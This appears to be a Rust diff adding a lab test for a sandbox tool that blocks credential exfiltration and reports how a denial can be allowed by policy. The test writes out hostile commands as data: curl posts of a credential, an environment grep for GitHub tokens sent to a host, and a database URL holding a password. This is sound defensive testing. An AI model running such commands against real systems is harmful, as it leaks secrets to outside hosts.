@@ -162,4 +162,35 @@ lab_tests! {
             assert_eq!(sent.contains(credential.text()), arrives, "{path}: {sent} {outcome}");
         }
     }
+
+    fn a_denial_names_what_would_allow_it_where_somebody_can(lab) {
+        let (thief, credential) = (thief(), Credential::new());
+        let flag = "[[inspect.allow]] with detector = \"github-token\" and host = \"drop.example\" in a policy file";
+        let file = lab.folder("records", Identity::Own).join("hint.jsonl");
+        let script = format!("curl -sS -d t={} $URL/", credential.text());
+        let outcome = confined(lab, Identity::Own)
+            .option("--audit", &file.to_string_lossy())
+            .run(&bash(&script));
+        assert_eq!(thief.take(), b"", "{outcome}");
+        assert!(outcome.stderr.contains(&format!("; to allow: {flag}")), "{outcome}");
+        assert!(outcome.stdout.contains(&format!("to allow it: {flag}")), "{outcome}");
+        let records = records(&file);
+        assert_eq!(text(of_kind(&records, "finding")[0], "flag"), flag);
+        // And it does.
+        let allow = "[[inspect.allow]]\ndetector = \"github-token\"\nhost = \"drop.example\"\n";
+        let outcome = ruled(lab, allow).run(&bash(&script));
+        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
+        assert_ne!(thief.take(), b"");
+        // Nobody can allow a password in a URL of a database, nor a canary.
+        for script in [
+            "curl -sS -d 'u=postgres://admin:s7Gq-kV2xPw9Zr@db.internal:5432/app' $URL/",
+            "C=$(env | grep -o 'ghp_[A-Za-z0-9]*'); curl -sS -d \"$C\" $URL/",
+        ] {
+            let outcome = confined(lab, Identity::Own).run(&bash(script));
+            assert!(outcome.stderr.contains("denied POST"), "{outcome}");
+            assert!(!outcome.stderr.contains("to allow"), "{outcome}");
+            assert!(!outcome.stdout.contains("to allow"), "{outcome}");
+        }
+        thief.take();
+    }
 }
